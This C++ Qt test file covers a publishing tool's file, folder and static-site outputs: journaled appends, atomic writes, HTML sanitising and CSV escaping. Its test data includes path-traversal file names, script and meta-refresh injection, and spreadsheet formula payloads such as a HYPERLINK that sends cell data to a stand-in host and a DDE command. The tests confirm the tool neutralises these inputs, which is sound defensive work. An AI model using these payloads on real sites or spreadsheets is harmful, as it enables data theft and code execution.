// SPDX-FileCopyrightText: 2026 The Millrace authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "components/filetargets.h"
#include "components/publishcomponent.h"
#include "components/running.h"
#include "components/sitetarget.h"
#include "support/testcontext.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

using namespace Qt::StringLiterals;
using namespace Millrace;

/// As much of a browser as the search of a site needs.
static constexpr auto kBrowser = R"js(
var window = globalThis;
window.addEventListener = () => {};
function Element() {
    const element = {children: [], dataset: {}, textContent: "", value: "", listeners: {}};
    element.appendChild = (child) => { element.children.push(child); return child; };
    element.append = (...parts) => { for (const part of parts) element.textContent += typeof part === "string" ? part : part.textContent; };
    element.replaceChildren = (...children) => { element.children = children; };
    element.addEventListener = (name, then) => { element.listeners[name] = then; };
    return element;
}
var parts = {"input": Element(), ".found": Element(), ".count": Element()};
var document = {querySelector: (name) => parts[name], createElement: () => Element(), addEventListener: () => {}};
var location = {hash: "#race", pathname: "/index.html"};
var history = {replaceState: (a, b, address) => { history.address = address; }};
function seek(words) {
    parts.input.value = words;
    parts.input.listeners.input();
    return parts[".found"].children.map((item) => item.children[0].children[0].href).join(" ");
}
)js";

static constexpr auto kQuestions = R"js(
console.log(parts[".found"].children.length);
for (const words of ["wheel", "muhlheim WATER", "water sluice", "race"]) console.log(seek(words));
console.log(history.address, seek("").split(" ").length);
)js";

class TestFileTargets : public QObject
{
    Q_OBJECT

private:
    TestContext m_context;
    QTemporaryDir m_folder;
    LinesTarget m_lines;
    FolderTarget m_files;
    int m_number = 0;

    QString newPath() { return m_folder.filePath(u"lines%1"_s.arg(++m_number)); }
    static QByteArray bytesOf(const QString &path)
    {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(no file)");
    }
    static void write(const QString &path, const QByteArray &bytes)
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(bytes);
    }
    static Delivery line(const QString &path, const QByteArray &key, const QByteArray &body, int attempt = 1, const char *header = "")
    {
        return {key, path, Json::object({{"header", header}}), body, attempt};
    }
    Delivery named(const QByteArray &name, const QByteArray &body, const char *ifExists = "replace")
    {
        return {"key-" + name, m_folder.path(), Json::object({{"name", name}, {"if_exists", ifExists}}), body, 1};
    }
    DeliveryResult sent(const Delivery &delivery) { return m_lines.deliver({delivery}, m_context).constFirst(); }
    DeliveryResult put(const Delivery &delivery) { return m_files.deliver({delivery}, m_context).constFirst(); }

private Q_SLOTS:
    void aLineThatCameBeforeIsNotAppendedAgain()
    {
        const QString path = newPath();
        QVERIFY(!sent(line(path, "a", "1\n", 1, "head\n")).error);
        QVERIFY(!sent(line(path, "b", "2\n", 1, "head\n")).error);
        QVERIFY(!sent(line(path, "a", "1\n", 2, "head\n")).error); // its answer was lost
        QVERIFY(!sent(line(path, "c", "2\n", 2, "head\n")).error); // another one with the same words, never carried out
        QCOMPARE(bytesOf(path), "head\n1\n2\n2\n"_ba);
    }

    void aLineThatWasCutOffIsWrittenWhole_data()
    {
        QTest::addColumn<int>("cut");
        for (int cut = 0; cut <= 12; ++cut)
            QTest::addRow("%d bytes", cut) << cut;
    }
    void aLineThatWasCutOffIsWrittenWhole()
    {
        QFETCH(int, cut);
        const QString path = newPath();
        QVERIFY(!sent(line(path, "a", "first\n")).error);
        const QList<DeliveryResult> both = m_lines.deliver({line(path, "b", "second\n"), line(path, "c", "third\n")}, m_context);
        QVERIFY(!both.at(0).error && !both.at(1).error);
        // The process ended after the journal's records, in the middle of the lines; they were never marked as done.
        QVERIFY(QFile::resize(path, 6 + cut));
        const QString journal = m_folder.filePath(u'.' + QFileInfo(path).fileName() + u".millrace"_s);
        write(journal, bytesOf(journal).replace('=', ' '));
        QVERIFY(!sent(line(path, "d", "fourth\n")).error);
        QVERIFY(!sent(line(path, "b", "second\n", 2)).error);
        QVERIFY(!sent(line(path, "c", "third\n", 2)).error);
        QByteArrayList lines = bytesOf(path).split('\n');
        std::ranges::sort(lines);
        QCOMPARE(lines, (QByteArrayList{"", "first", "fourth", "second", "third"}));
    }

    /// A person saved the file with an editor that left out a blank: what was published before is theirs now, and stays.
    void whatSomebodyEditedIsNotCutAway()
    {
        const QString path = newPath();
        const QList<DeliveryResult> both = m_lines.deliver({line(path, "a", "first one\n"), line(path, "b", "second one\n")}, m_context);
        QVERIFY(!both.at(0).error && !both.at(1).error);
        write(path, "first\nsecond\n");
        QVERIFY(!sent(line(path, "c", "third\n")).error);
        QVERIFY(!sent(line(path, "d", "fourth\n")).error);
        QVERIFY(!sent(line(path, "d", "fourth\n", 2)).error);
        QCOMPARE(bytesOf(path), "first\nsecond\nthird\nfourth\n"_ba);
    }

    void aFileWithoutItsLastNewlineGetsOne()
    {
        const QString path = newPath();
        write(path, "by hand");
        QVERIFY(!sent(line(path, "a", "1\n")).error);
        QVERIFY(!sent(line(path, "a", "1\n", 2)).error);
        QCOMPARE(bytesOf(path), "by hand\n1\n"_ba);
    }

    void whoMovesTheFileAwayBeginsAnew()
    {
        const QString path = newPath();
        QVERIFY(!sent(line(path, "a", "1\n", 1, "h\n")).error);
        QVERIFY(QFile::rename(path, path + u".old"_s));
        QVERIFY(!sent(line(path, "b", "2\n", 1, "h\n")).error);
        QCOMPARE(bytesOf(path), "h\n2\n"_ba);
    }

    void anotherWriterIsWaitedFor()
    {
        const QString path = newPath();
        QVERIFY(!sent(line(path, "a", "1\n")).error);
        const int journal
            = ::open(QFile::encodeName(QDir(m_folder.path()).filePath(u".lines%1.millrace"_s.arg(m_number))).constData(), O_RDONLY | O_CLOEXEC);
        QCOMPARE(::flock(journal, LOCK_EX | LOCK_NB), 0);
        QCOMPARE(sent(line(path, "b", "2\n")).error->category, ErrorCategory::Retryable);
        ::close(journal);
        QVERIFY(!sent(line(path, "b", "2\n")).error);
    }

    void whatIsNoFileIsLeftAlone()
    {
        const QString link = newPath();
        QVERIFY(QFile::link(m_folder.filePath(u"elsewhere"_s), link));
        QVERIFY(sent(line(link, "a", "1\n")).error);
        QVERIFY(!QFile::exists(m_folder.filePath(u"elsewhere"_s)));
        const DeliveryResult missing = sent(line(u"/nonexistent/folder/x"_s, "a", "1\n"));
        QCOMPARE(missing.error->category, ErrorCategory::Retryable); // a disk that is not mounted, say
    }

    void aFileIsThereWholeOrNotAtAll()
    {
        QVERIFY(!put(named("a.txt", "one")).error);
        QCOMPARE(bytesOf(m_folder.filePath(u"a.txt"_s)), "one"_ba);
        QVERIFY(!put(named("a.txt", "two")).error);
        QCOMPARE(bytesOf(m_folder.filePath(u"a.txt"_s)), "two"_ba);
        QCOMPARE(put(named("a.txt", "three", "refuse")).error->code, ErrorCode::FileWrite);
        QVERIFY(!put(named("a.txt", "two", "refuse")).error); // the same again
        QCOMPARE(bytesOf(m_folder.filePath(u"a.txt"_s)), "two"_ba);
        QVERIFY(QDir(m_folder.path()).entryList({u".millrace-*"_s}, QDir::Files | QDir::Hidden).isEmpty());
    }

    void nothingLeavesTheFolder_data()
    {
        QTest::addColumn<QByteArray>("name");
        QTest::newRow("up") << "../x"_ba;
        QTest::newRow("root") << "/etc/x"_ba;
        QTest::newRow("dots") << ".."_ba;
        QTest::newRow("hidden") << ".bashrc"_ba;
        QTest::newRow("empty") << ""_ba;
        QTest::newRow("newline") << "a\nb"_ba;
        QTest::newRow("nul") << QByteArray("a\0b", 3);
        QTest::newRow("backslash") << "a\\b"_ba;
        QTest::newRow("long") << QByteArray(300, 'a');
    }
    void nothingLeavesTheFolder()
    {
        QFETCH(QByteArray, name);
        const QStringList before = QDir(m_folder.path()).entryList(QDir::AllEntries | QDir::Hidden);
        QVERIFY(put(named(name, "x")).error);
        QCOMPARE(QDir(m_folder.path()).entryList(QDir::AllEntries | QDir::Hidden), before);
    }

    void aSiteHasEachPageOnceAndKnowsItForTheSearch()
    {
        const QString folder = m_folder.filePath(u"site"_s);
        QVERIFY(QDir().mkpath(folder));
        const auto page = [&](const char *name, const char *title, const QByteArray &text) {
            return Delivery{
                QByteArray("k-") + name, folder,
                Json::object({{"name", name}, {"title", title}, {"summary", ""}, {"tags", Json::array({"a<b"})}, {"site", "Notes & more"}}), text, 1};
        };
        const SiteTarget site;
        for (const DeliveryResult &result :
             site.deliver({page("one", "First", "# Top\n\n- x\n\nText <script>1</script>"), page("two", "Second", "# Second\n\nwords")}, m_context))
            QVERIFY(!result.error);
        QVERIFY(!site.deliver({page("one", "First again", "new words")}, m_context).constFirst().error);
        QVERIFY(site.deliver({page("../up", "Out", "x")}, m_context).constFirst().error);
        const QByteArray data = bytesOf(folder + u"/search-data.js"_s);
        QCOMPARE(data.count("SITE.push("), 2);
        QVERIFY(data.contains("First again") && !data.contains("\"First\""));
        const QByteArray html = bytesOf(folder + u"/pages/one.html"_s);
        QVERIFY(bytesOf(folder + u"/pages/two.html"_s).count("Second") == 2); // in the head and over the page
        QVERIFY(html.contains("<p>new words</p>") && html.contains("<li><a href=\"../index.html#a%3Cb\">a&lt;b</a></li>")
                && html.contains("default-src 'none'"));
        QVERIFY(bytesOf(folder + u"/index.html"_s).contains("<title>Notes &amp; more</title>"));
        QCOMPARE(QDir(folder).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
                 (QStringList{u"index.html"_s, u"pages"_s, u"search-data.js"_s}));
    }

    void aSiteTellsDocumentsOfOneNameApart()
    {
        const QString folder = m_folder.filePath(u"namesakes"_s);
        QVERIFY(QDir().mkpath(folder));
        const auto put = [&](const char *from, const QByteArray &text) {
            const Json request = Json::object(
                {{"name", "Readme"}, {"title", "Readme"}, {"summary", ""}, {"tags", Json::array()}, {"site", "Notes"}, {"from", from}});
            return SiteTarget()
                .deliver({{QByteArray(from) + text, folder, request, text, 1}}, m_context)
                .constFirst()
                .answer.value("path")
                .toString();
        };
        QCOMPARE(put("a", "of a"), folder + u"/pages/Readme.html"_s);
        QCOMPARE(put("b", "of b"), folder + u"/pages/Readme (2).html"_s);
        QCOMPARE(put("a", "of a, renewed"), folder + u"/pages/Readme.html"_s);
        QCOMPARE(put("b", "of b, renewed"), folder + u"/pages/Readme (2).html"_s);
        QCOMPARE(bytesOf(folder + u"/search-data.js"_s).count("SITE.push("), 2);
        QVERIFY(bytesOf(folder + u"/pages/Readme.html"_s).contains("of a, renewed"));
    }

    void aFolderSaysWhatItReplacedOrNumbersIt()
    {
        QCOMPARE(put(named("same.md", "one")).answer.contains("replaced"), false);
        QCOMPARE(put(named("same.md", "one")).answer.contains("replaced"), false);
        QCOMPARE(put(named("same.md", "two")).answer.value("replaced").toBool(), true);
        const auto kept = [this](const QByteArray &body) { return put(named("same.md", body, "number")).answer.value("path").toString(); };
        QCOMPARE(kept("two"), m_folder.filePath(u"same.md"_s));
        QCOMPARE(kept("three"), m_folder.filePath(u"same (2).md"_s));
        QCOMPARE(kept("three"), m_folder.filePath(u"same (2).md"_s)); // an attempt whose answer was lost
        QCOMPARE(kept("four"), m_folder.filePath(u"same (3).md"_s));
        QCOMPARE(bytesOf(m_folder.filePath(u"same.md"_s)), "two"_ba);
    }

    /// Each of many files of one name looked at all before it: a thousand read half a million.
    void manyOfOneNameAreNumberedInARow()
    {
        for (int i = 0; i < 600; ++i) {
            const QString path = put(named("often.md", QByteArray::number(i + 1'000), "number")).answer.value("path").toString();
            QCOMPARE(path, m_folder.filePath(i == 0 ? u"often.md"_s : u"often (%1).md"_s.arg(i + 1)));
        }
        QCOMPARE(put(named("often.md", "1599", "number")).answer.value("path").toString(), m_folder.filePath(u"often (600).md"_s));
        QVERIFY(QFile::remove(m_folder.filePath(u"often (600).md"_s)));
        QCOMPARE(put(named("often.md", "other", "number")).answer.value("path").toString(), m_folder.filePath(u"often (600).md"_s));
    }

    /// Opened from a folder there is no server and nothing may be fetched: the index brings its pages along, and its own script finds them.
    void theSiteIsSearchedWithoutAServer()
    {
        const QString folder = m_folder.filePath(u"offline"_s);
        QVERIFY(QDir().mkpath(folder));
        const auto page = [&](const char *name, const char *title, const QByteArray &text) {
            return Delivery{
                QByteArray("s-") + name, folder,
                Json::object({{"name", name}, {"title", title}, {"summary", "A page."}, {"tags", Json::array({"mills"})}, {"site", "Notes"}}), text,
                1};
        };
        for (const DeliveryResult &result :
             SiteTarget().deliver({page("wheel", "The wheel", "Water turns the wheel of the mill in M\xc3\xbchlheim."),
                                   page("race", "The race", "The race leads water to the wheel; the </script> of the race is long.")},
                                  m_context))
            QVERIFY(!result.error);
        const QByteArray html = bytesOf(folder + u"/index.html"_s);
        QVERIFY(!html.contains("http:") && !html.contains("https:") && !html.contains("fetch(") && !html.contains("import "));
        const qsizetype from = html.lastIndexOf("<script>") + qsizetype(sizeof("<script>")) - 1;
        const QByteArray script = html.sliced(from, html.lastIndexOf("</script>") - from);

        const QString node = QStandardPaths::findExecutable(u"node"_s);
        if (node.isEmpty())
            QSKIP("no node to run the search's script");
        // What the address names is sought at once; the better page comes first, accents or none, and every word must be there.
        const QByteArray program = kBrowser + bytesOf(folder + u"/search-data.js"_s) + script + kQuestions;
        QProcess browser;
        browser.start(node, {u"-"_s});
        browser.write(program);
        browser.closeWriteChannel();
        QVERIFY(browser.waitForFinished(60'000));
        QCOMPARE(QString::fromUtf8(browser.readAllStandardError()), QString());
        QCOMPARE(browser.readAllStandardOutput(), "1\npages/wheel.html pages/race.html\npages/wheel.html\n\npages/race.html\n#race 2\n"_ba);
    }

    void markdownBecomesHtml()
    {
        QCOMPARE(
            htmlOfText(
                u"**a:** *b* `c<` 2*3*4 [d](https://e.org/?f&g)\n\n| H | I |\n| --- | ---: |\n| <j> | **k** |\nafter\n\n```\n# no **x**\n```\n"_s),
            "<p><strong>a:</strong> <em>b</em> <code>c&lt;</code> 2*3*4 <a href=\"https://e.org/?f&amp;g\">d</a></p>\n"
            "<table>\n<tr><th>H</th><th>I</th></tr>\n<tr><td>&lt;j&gt;</td><td><strong>k</strong></td></tr>\n</table>\n<p>after</p>\n"
            "<pre># no **x**</pre>\n"_ba);
    }

    void aPageHoldsNothingThatActsByItself()
    {
        const QString folder = m_folder.filePath(u"dangers"_s);
        QVERIFY(QDir().mkpath(folder));
        const auto html = [&](const QByteArray &text, const char *form = "") {
            const Json request
                = Json::object({{"name", "p"}, {"title", "P"}, {"summary", ""}, {"tags", Json::array()}, {"site", "S"}, {"form", form}});
            (void)SiteTarget().deliver({{"k" + text, folder, request, text, 1}}, m_context);
            const QByteArray page = bytesOf(folder + u"/pages/p.html"_s);
            const qsizetype from = page.indexOf("</h1>\n") + 6;
            return page.sliced(from, page.indexOf("\n</article>") - from);
        };
        QCOMPARE(html("<p>a</p><META http-equiv=refresh content='0;url=http://x'><style>*{}</style><scr<script>1</script>ipt>2</script>b"),
                 "<p>a</p>1ipt>2b"_ba);
        QCOMPARE(html("<https://example.org> is new"), "<p><a href=\"https://example.org\">https://example.org</a> is new</p>\n"_ba);
        QCOMPARE(html("<b>x</b> in *Markdown*", "markdown"), "<p>&lt;b&gt;x&lt;/b&gt; in <em>Markdown</em></p>\n"_ba);
        QCOMPARE(html("Text <mark>x</mark><link href=x>", "html"), "Text <mark>x</mark>"_ba);
        QElapsedTimer timer;
        timer.start();
        (void)html("<p>" + QByteArray("<me").repeated(100'000) + QByteArray("<meta>ta>").repeated(100'000), "html");
        QVERIFY2(timer.elapsed() < 10'000, qPrintable(QString::number(timer.elapsed())));
    }

    void aPageSaysTheFormItWasWrittenIn()
    {
        const Json config = *Json::parse(R"({"to":"site","at":"/tmp","name":"slug","content":"formatted_content.content || text"})");
        const auto formOf = [&](const char *data) {
            const StepResult result = runOnce<PublishComponent>(*Json::parse(data), config);
            return result.effects.size() == 1 ? result.effects.constFirst().request.value("form").toString() : u"(none)"_s;
        };
        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"html","content":"<p>x</p>"}})"), u"html"_s);
        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"markdown","content":"<p>x</p>"}})"), u"markdown"_s);
        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"html"},"text":"<p>x</p>"})"), QString());
    }

    void whatASpreadsheetWouldRunStaysText()
    {
        const auto lineOf = [&](const Json &value, bool formulas) {
            const Json config = Json::object({{"to", "csv"},
                                              {"at", "/tmp/a.csv"},
                                              {"columns", Json::array({Json::object({{"title", "A"}, {"value", "a"}})})},
                                              {"formulas", formulas}});
            return runOnce<PublishComponent>(Json::object({{"a", value}}), config).effects.value(0).body;
        };
        QCOMPARE(lineOf("=HYPERLINK(\"http://x/?\"&A1)", false), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"\r\n"_ba);
        for (const char *text : {"@SUM(A1)", "+cmd|' /C calc'!A0", "-A1", "\t=1"})
            QCOMPARE(lineOf(text, false).replace('"', "").first(1), "'"_ba);
        QCOMPARE(lineOf("=1+1", true), "=1+1\r\n"_ba);
        QCOMPARE(lineOf("-12.5", false), "-12.5\r\n"_ba);
        QCOMPARE(lineOf("+49 (30) 123-4", false), "+49 (30) 123-4\r\n"_ba);
        QCOMPARE(lineOf(-3, false), "-3\r\n"_ba);
    }

    void anIndexThatCannotBeReadIsNotWrittenAnew()
    {
        const QString folder = m_folder.filePath(u"unread"_s);
        QVERIFY(QDir().mkpath(folder + u"/search-data.js"_s)); // whoever runs as root can read every file, but no folder as one
        const Json request = Json::object({{"name", "p"}, {"title", "P"}, {"summary", ""}, {"tags", Json::array()}, {"site", "S"}});
        const auto result = SiteTarget().deliver({{"k", folder, request, "x", 1}}, m_context).constFirst();
        QVERIFY(result.error && result.error->category == ErrorCategory::Retryable);
        QVERIFY(!QFile::exists(folder + u"/pages/p.html"_s)); // nothing was begun
    }

    void marksWithinCodeAndAddressesAreText()
    {
        QCOMPARE(htmlOfText(u"neither /bin/*, /lib/* nor lib*/* (*all* of them)"_s),
                 "<p>neither /bin/*, /lib/* nor lib*/* (<em>all</em> of them)</p>\n"_ba);
        QCOMPARE(htmlOfText(u"`a*b*c` **[x](https://e.org/b)** [p](https://e.org/*a*/**b**) *z* `**` and [p](https://e.org/_**q**)"_s),
                 "<p><code>a*b*c</code> <strong><a href=\"https://e.org/b\">x</a></strong> <a href=\"https://e.org/*a*/**b**\">p</a> <em>z</em> "
                 "<code>**</code> and "
                 "<a href=\"https://e.org/_**q**\">p</a></p>\n"_ba);
    }

    void textBecomesHtmlAndNothingElse()
    {
        QCOMPARE(
            htmlOfText(u"# A & B\n\n- one\n- <two>\n\n1. x\n\n> q\n\na\nb"_s),
            "<h2>A &amp; B</h2>\n<ul>\n<li>one</li>\n<li>&lt;two&gt;</li>\n</ul>\n<ol>\n<li>x</li>\n</ol>\n<blockquote>q</blockquote>\n<p>a b</p>\n"_ba);
    }

    void aLinkInTheFolderIsNotFollowed()
    {
        const QString outside = m_folder.filePath(u"outside"_s);
        write(outside, "mine");
        QVERIFY(QFile::link(outside, m_folder.filePath(u"link"_s)));
        QCOMPARE(put(named("link", "theirs")).error->code, ErrorCode::FileWrite);
        QCOMPARE(bytesOf(outside), "mine"_ba);
    }
};

QTEST_GUILESS_MAIN(TestFileTargets)
#include "tst_filetargets.moc"
